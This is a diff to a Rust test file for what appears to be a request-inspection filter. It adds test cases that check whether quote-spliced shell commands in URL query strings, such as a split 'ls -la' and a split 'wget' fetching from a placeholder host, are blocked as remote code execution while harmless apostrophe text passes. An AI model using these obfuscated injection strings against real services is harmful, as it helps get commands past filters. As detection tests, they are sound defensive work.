@@ -1,6 +1,7 @@
 //! Per-class behaviour of the whole pipeline: an attack that must block and
 //! a near miss that must not.
 
+use super::views::shell_unquote;
 use super::*;
 
 fn query(q: &str) -> Inspection {
@@ -348,6 +349,8 @@ fn spliced_command_words() {
     blocks(query("a='i'p%20a"), Class::Rce);
     blocks(query("a=w%5Cho'am'i"), Class::Rce);
     blocks(query("a=%5Cls"), Class::Rce);
+    blocks(query("a=l's%20-la"), Class::Rce);
+    blocks(query("a=wge't%20http://x.example/a"), Class::Rce);
     passes(json(r#"{"m":"I'd be surprised if it's done; we'll see what O'Brien's team says"}"#));
 }
 
